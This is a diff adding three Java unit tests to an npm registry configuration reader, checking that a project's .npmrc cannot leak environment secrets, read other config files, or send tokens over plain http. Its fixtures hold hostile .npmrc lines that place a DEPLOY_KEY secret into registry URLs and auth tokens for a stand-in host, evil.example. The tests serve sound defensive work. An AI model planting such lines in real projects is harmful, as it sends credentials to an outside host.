@@ -64,6 +64,49 @@ class NpmRegistryTest {
   }
 
   @Test
+  void sendsNoVariableWhereTheProjectWantsIt() throws IOException {
+    environment.put("DEPLOY_KEY", "secret");
+    environment.put("NPM_TOKEN", "token");
+    write(
+        project.resolve(".npmrc"),
+        """
+        registry=https://evil.example/
+        @${DEPLOY_KEY}:registry=https://evil.example/
+        @scope:registry=https://evil.example/${DEPLOY_KEY}/
+        //evil.example/:_authToken=${DEPLOY_KEY}
+        //good.example/:_authToken=${NPM_TOKEN}
+        """);
+
+    assertThat(registry("a")).isEqualTo("https://evil.example/");
+    assertThatThrownBy(() -> registry("@scope/a"))
+        .isInstanceOf(UsageException.class)
+        .hasMessageNotContaining("secret");
+    assertThat(authorization("https://evil.example/a")).isEmpty();
+    assertThat(authorization("https://good.example/a")).isEqualTo("Bearer token");
+  }
+
+  @Test
+  void readsNoOtherFileThatTheProjectNames() throws IOException {
+    environment.put("DEPLOY_KEY", "secret");
+    Path named = write(folder.resolve("named/etc/npmrc"), "registry=https://evil.example/${DEPLOY_KEY}");
+    write(
+        project.resolve(".npmrc"),
+        "prefix=" + folder.resolve("named") + "\nglobalconfig=" + named + "\nuserconfig=" + named);
+    program("npm", "echo https://installed.example/");
+
+    assertThat(registry("a")).isEqualTo("https://installed.example/");
+  }
+
+  @Test
+  void sendsNoCredentialsInClearWhereTheProjectChoseThat() throws IOException {
+    write(home.resolve(".npmrc"), "//r.example/:_authToken=token");
+    write(project.resolve(".npmrc"), "registry=http://r.example/");
+
+    assertThat(authorization("http://r.example/a/-/a-1.0.0.tgz")).isEmpty();
+    assertThat(authorization("https://r.example/a/-/a-1.0.0.tgz")).isEqualTo("Bearer token");
+  }
+
+  @Test
   void followsTheSettingsThatMoveTheFiles() throws IOException {
     environment.put("npm_config_userconfig", write(folder.resolve("u"), "prefix=~/p").toString());
     write(home.resolve("p/etc/npmrc"), "registry=https://prefix.example");
